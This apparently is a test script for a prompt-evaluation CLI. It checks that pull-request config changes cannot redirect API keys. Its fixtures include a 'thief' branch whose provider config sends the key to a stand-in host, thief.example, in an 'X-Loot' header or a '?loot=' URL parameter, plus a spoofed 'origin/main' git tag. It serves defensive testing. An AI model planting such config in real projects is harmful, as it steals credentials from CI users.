# In a pull request's job, the branch that it goes to says where requests go and what they carry. The branch here would
# have them elsewhere, with another key: where it is believed, there is none.
$ mock
-- shop/promptctl.yaml
format: 1
providers:
  local: {type: openai, base_url: "${MOCK_URL}", api_key: "${LOCAL_KEY}"}
-- shop/prompts/hello.prompt
---
model: local/small
input: {schema: {name: string}}
---
Hello {{name}}
-- shop/golden/hello/suite.yaml
prompt: hello
cases: cases.jsonl
assert: [{type: contains, value: Hello}]
-- shop/golden/hello/cases.jsonl
{"id": "a", "vars": {"name": "Ada"}}
-- shop/.gitignore
.promptctl/
$ git init -q -b main shop
$ git -C shop add -A
$ git -C shop commit -qm first
$ git -C shop update-ref refs/remotes/origin/main HEAD
$ git -C shop checkout -q -b thief
-- shop/promptctl.yaml
format: 1
providers:
  local: {type: openai, base_url: "https://thief.example/v1", api_key: "${NO_SUCH_TOKEN}", headers: {X-Loot: "${LOCAL_KEY}"}}
-- shop/prompts/hello.prompt
---
model: local/small
input: {schema: {name: string}}
---
Hello, dear {{name}}
$ git -C shop commit -qam "Faster"
# Outside CI, and in a job for what was pushed, the tree is one's own.
$ clock 2026-01-05T09:00:00Z
$ LOCAL_KEY=key-0123456789 GITHUB_EVENT_NAME=push promptctl -C shop eval --no-cache
NO VERDICT  hello on hello: no case has a verdict

  cases      1: 0 passed, 0 failed, 1 error
  latency    not measured
  cost       nothing was called
  model      local/small
  run        20260105-090000-89025cc1
  signature  dataset:4fc92187 cases:1 repeats:1 reducer:pass^k prompt:3b3e760e
             suite:08d2bcf9 promptctl:0.1.0 commit:1924e578

  ERROR  a
    authentication: the environment variable NO_SUCH_TOKEN is not set
[exit 2]
# GitHub's job, GitLab's, and whoever says so.
$ clock 2026-01-05T09:01:00Z
$ GITHUB_EVENT_NAME=pull_request GITHUB_BASE_REF=main promptctl -C shop eval --no-cache
ACCEPTED  hello on hello: 1 case passed

  cases      1: 1 passed, 0 failed, 0 errors
  pass rate  100.0%, 95% interval 20.7% to 100.0%
  score      1.000, 95% interval 0.000 to 1.000
  latency    p50 0ms, p95 0ms, max 0ms; first token p50 0ms, p95 0ms, max 0ms
  tokens     4 in, 4 out
  cost       unknown: no price or no usage for local/small
  model      local/small
  run        20260105-090100-89025cc1
  signature  dataset:4fc92187 cases:1 repeats:1 reducer:pass^k prompt:3b3e760e
             suite:08d2bcf9 promptctl:0.1.0 commit:1924e578
[stderr]
note: promptctl.yaml of this pull request changes base_url, api_key, headers of `local`: requests go by origin/main's entry, to ${MOCK_URL}
[exit 0]
$ clock 2026-01-05T09:02:00Z
$ GITHUB_EVENT_NAME= CI_MERGE_REQUEST_IID=7 CI_MERGE_REQUEST_TARGET_BRANCH_NAME=main promptctl -C shop eval --no-cache -q --format csv
run,suite,case,target,repeat,verdict,score,latency_ms,ttft_ms,input_tokens,output_tokens,cost_usd,cached,reasons,output
"20260105-090200-89025cc1","hello","a","local/small",1,passed,1,0,0,4,4,,false,"","Hello, dear Ada"
[stderr]
note: promptctl.yaml of this pull request changes base_url, api_key, headers of `local`: requests go by origin/main's entry, to ${MOCK_URL}
[exit 0]
$ clock 2026-01-05T09:03:00Z
$ CI_MERGE_REQUEST_IID= promptctl -C shop eval --no-cache -q --format csv --untrusted=main
run,suite,case,target,repeat,verdict,score,latency_ms,ttft_ms,input_tokens,output_tokens,cost_usd,cached,reasons,output
"20260105-090300-89025cc1","hello","a","local/small",1,passed,1,0,0,4,4,,false,"","Hello, dear Ada"
[stderr]
note: promptctl.yaml of this pull request changes base_url, api_key, headers of `local`: requests go by main's entry, to ${MOCK_URL}
[exit 0]
$ clock 2026-01-05T09:04:00Z
$ promptctl -C shop eval --no-cache -q --format csv --untrusted
run,suite,case,target,repeat,verdict,score,latency_ms,ttft_ms,input_tokens,output_tokens,cost_usd,cached,reasons,output
"20260105-090400-89025cc1","hello","a","local/small",1,passed,1,0,0,4,4,,false,"","Hello, dear Ada"
[stderr]
note: promptctl.yaml of this pull request changes base_url, api_key, headers of `local`: requests go by origin/main's entry, to ${MOCK_URL}
[exit 0]
# What compares, decides or searches sends in the same way.
$ clock 2026-01-05T09:05:00Z
$ GITHUB_EVENT_NAME=pull_request_target promptctl -C shop diff hello@git:HEAD~1 --eval --format github
[stderr]
note: promptctl.yaml of this pull request changes base_url, api_key, headers of `local`: requests go by origin/main's entry, to ${MOCK_URL}
[exit 0]
$ promptctl -C shop bisect hello --good git:HEAD~1 --bad git:HEAD
[stderr]
note: promptctl.yaml of this pull request changes base_url, api_key, headers of `local`: requests go by origin/main's entry, to ${MOCK_URL}
error[nothing-lost]: hello@git:1924e5789567 is no worse than hello@git:a35caae402f5 in pass_rate
  hint: choose other ends, another --metric, or another --case
[exit 2]
$ promptctl -C shop gate --changed-since origin/main --no-cache -q --format github
::warning file=prompts/hello.prompt,title=inconclusive%3A pass_rate not worse by 5%25::hello with local/small: +0.0 points (-79.3 to +79.3); the interval holds the limit; about 251 more cases would show that it holds
::warning file=prompts/hello.prompt,title=note::promptctl.yaml of this pull request changes base_url, api_key, headers of `local`: requests go by origin/main's entry, to ${MOCK_URL}
[stderr]
note: promptctl.yaml of this pull request changes base_url, api_key, headers of `local`: requests go by origin/main's entry, to ${MOCK_URL}
[exit 3]
# Nothing is asked offline, or by what only compares: no base is needed.
$ GITHUB_BASE_REF=gone promptctl -C shop eval --offline -q --format csv
run,suite,case,target,repeat,verdict,score,latency_ms,ttft_ms,input_tokens,output_tokens,cost_usd,cached,reasons,output
"offline-5f4bb3ecc065","hello","a","local/small",1,error,,,,,,,false,"offline, and this request's reply is neither on the cassette nor in the cache",""
[exit 2]
$ promptctl -C shop diff hello@git:HEAD hello
hello@git:HEAD and hello are identical: sha256:3b3e760e3749
[exit 0]
# A base that is not here is never taken for agreement.
$ promptctl -C shop eval
[stderr]
error[no-base]: what a pull request may not decide is for origin/gone to say, and that can't be read: git knows no revision `refs/remotes/origin/gone`
  hint: fetch it: git fetch origin gone:refs/remotes/origin/gone (actions/checkout: fetch-depth: 0)
[exit 2]
$ GITHUB_BASE_REF= promptctl -C shop eval
[stderr]
error[no-base]: this is a pull request, and nothing tells which branch it goes to
  hint: name the branch: --untrusted=origin/main
[exit 2]
$ GITHUB_BASE_REF=main promptctl -C shop eval --untrusted=nowhere
[stderr]
error[no-base]: what a pull request may not decide is for nowhere to say, and that can't be read: git knows no revision `nowhere`
  hint: fetch it, or name another revision: --untrusted=BASE
[exit 2]
# Only --trust-head sends to the changed address, and a decision says so.
$ clock 2026-01-05T10:00:00Z
$ promptctl -C shop eval --no-cache --format csv --trust-head
run,suite,case,target,repeat,verdict,score,latency_ms,ttft_ms,input_tokens,output_tokens,cost_usd,cached,reasons,output
"20260105-100000-89025cc1","hello","a","local/small",1,error,,,,,,,false,"the environment variable NO_SUCH_TOKEN is not set",""
[stderr]
note: --trust-head: requests to `local` go by promptctl.yaml of this pull request, which changes base_url, api_key, headers (origin/main has ${MOCK_URL})
[exit 2]
$ GITHUB_BASE_REF=gone promptctl -C shop eval --no-cache --format csv --trust-head
run,suite,case,target,repeat,verdict,score,latency_ms,ttft_ms,input_tokens,output_tokens,cost_usd,cached,reasons,output
"20260105-100000-89025cc1","hello","a","local/small",1,error,,,,,,,false,"the environment variable NO_SUCH_TOKEN is not set",""
[stderr]
note: --trust-head: requests go by promptctl.yaml of this pull request; what it changes can't be told: what a pull request may not decide is for origin/gone to say, and that can't be read: git knows no revision `refs/remotes/origin/gone`
[exit 2]
$ GITHUB_BASE_REF=main NO_SUCH_TOKEN=stolen promptctl -C shop gate hello --against hello@git:HEAD~1 --eval --trust-head -q --format github
::warning file=prompts/hello.prompt,title=inconclusive%3A pass_rate not worse by 5%25::hello with local/small: +0.0 points (-79.3 to +79.3); the interval holds the limit; about 251 more cases would show that it holds
::warning file=prompts/hello.prompt,title=note::--trust-head: requests to `local` go by promptctl.yaml of this pull request, which changes base_url, api_key, headers (origin/main has ${MOCK_URL})
[stderr]
note: --trust-head: requests to `local` go by promptctl.yaml of this pull request, which changes base_url, api_key, headers (origin/main has ${MOCK_URL})
[exit 3]
# A provider that the base does not have is not asked: not where a suite asks for it, and not as the default.
-- shop/promptctl.yaml
format: 1
defaults: {target: fast/small}
providers:
  local: {type: openai, base_url: "${MOCK_URL}", api_key: "${LOCAL_KEY}"}
  fast: {type: openai, base_url: "https://thief.example/v1?loot=${LOCAL_KEY}"}
-- shop/prompts/hello.prompt
---
input: {schema: {name: string}}
---
Hello, dear {{name}}
$ clock 2026-01-05T11:00:00Z
$ promptctl -C shop eval --no-cache
NO VERDICT  hello on hello: no case has a verdict

  cases      1: 0 passed, 0 failed, 1 error
  latency    not measured
  cost       nothing was called
  model      fast/small
  run        20260105-110000-89025cc1
  signature  dataset:4fc92187 cases:1 repeats:1 reducer:pass^k prompt:b3775727
             suite:08d2bcf9 promptctl:0.1.0 commit:1924e578+dirty

  ERROR  a
    forbidden: origin/main does not have this provider, and a pull request's
    keys go where origin/main says (or by --trust-head)
[stderr]
note: promptctl.yaml of this pull request adds the provider `fast`: nothing is sent to it before it is in origin/main
[exit 2]
$ clock 2026-01-05T11:01:00Z
$ promptctl -C shop gate --changed-since origin/main --no-cache
[stderr]
note: promptctl.yaml of this pull request adds the provider `fast`: nothing is sent to it before it is in origin/main
error[no-answer]: fast/small answered nothing in run 20260105-110100-89025cc1: forbidden: origin/main does not have this provider, and a pull request's keys go where origin/main says (or by --trust-head)
  hint: this says nothing of the prompt: mend it, and run it again
[exit 2]
# The provider that every registry has goes by the base's entry too, which here is none.
-- shop/promptctl.yaml
format: 1
defaults: {target: openai/small}
providers:
  local: {type: openai, base_url: "${MOCK_URL}", api_key: "${LOCAL_KEY}"}
  openai: {type: openai, base_url: "https://thief.example/v1", api_key: "${OPENAI_API_KEY}"}
$ clock 2026-01-05T12:00:00Z
$ promptctl -C shop eval --no-cache --format csv
run,suite,case,target,repeat,verdict,score,latency_ms,ttft_ms,input_tokens,output_tokens,cost_usd,cached,reasons,output
"20260105-120000-89025cc1","hello","a","openai/small",1,error,,,,,,,false,"the environment variable OPENAI_API_KEY is not set",""
[stderr]
note: promptctl.yaml of this pull request changes type, base_url, api_key of `openai`: requests go by origin/main's entry, to https://api.openai.com/v1
[exit 2]
# A registry that the branch puts in front of the base's does not choose either.
-- shop/team/promptctl.yaml
format: 1
providers:
  local: {type: openai, base_url: "https://thief.example/v1", api_key: "${LOCAL_KEY}"}
-- shop/team/prompts/hello.prompt
---
model: local/small
---
Hello
-- shop/team/golden/hello/suite.yaml
prompt: hello
cases: cases.jsonl
assert: [{type: contains, value: Hello}]
-- shop/team/golden/hello/cases.jsonl
{"id": "a", "vars": {}}
$ promptctl -C shop/team eval --no-cache --format csv
run,suite,case,target,repeat,verdict,score,latency_ms,ttft_ms,input_tokens,output_tokens,cost_usd,cached,reasons,output
"20260105-120000-89025cc1","hello","a","local/small",1,passed,1,0,0,2,2,,false,"","Hello"
[stderr]
note: promptctl.yaml of this pull request changes base_url of `local`: requests go by origin/main's entry, to ${MOCK_URL}
[exit 0]
# A policy's file is the base's.
-- shop/gates/loose.yaml
rules: [{metric: pass_rate, at_least: 0%}]
$ promptctl -C shop gate hello --against hello@git:HEAD~1 --policy gates/loose.yaml --offline
[stderr]
gates/loose.yaml: error[missing-file]: origin/main has no such file, and a pull request's own policy does not count
  hint: merge the policy first
[exit 2]
$ git -C shop stash -qu
$ git -C shop checkout -q main
-- shop/gates/strict.yaml
{min_cases: 50, rules: [{metric: pass_rate, at_least: 0%}]}
$ git -C shop add -A
$ git -C shop commit -qm "a gate"
$ git -C shop update-ref refs/remotes/origin/main HEAD
-- shop/gates/strict.yaml
{min_cases: 1, rules: [{metric: pass_rate, at_least: 0%}]}
$ promptctl -C shop gate hello --against hello@git:HEAD --policy gates/strict.yaml --format github
::warning file=prompts/hello.prompt,title=inconclusive%3A pass_rate at least 0%25::hello with local/small: 100.0%25; 1 of the 50 cases that the policy asks for
[exit 3]
# A tag that looks like the base is no base.
$ git -C shop tag origin/main thief
$ promptctl -C shop gate --changed-since origin/main
[stderr]
error[ambiguous-revision]: `origin/main` may be refs/remotes/origin/main or refs/tags/origin/main, which differ
  hint: write the whole name, and see who made the other
[exit 2]
$ promptctl -C shop eval --untrusted=origin/main
[stderr]
error[ambiguous-revision]: `origin/main` may be refs/remotes/origin/main or refs/tags/origin/main, which differ
  hint: write the whole name, and see who made the other
[exit 2]
$ promptctl -C shop eval --dry-run -q
hello: 1 case on local/small, 1 reply each: 1 call
  about 2 input tokens; cost at most about unknown (no price, or no limit on output tokens)
[exit 0]
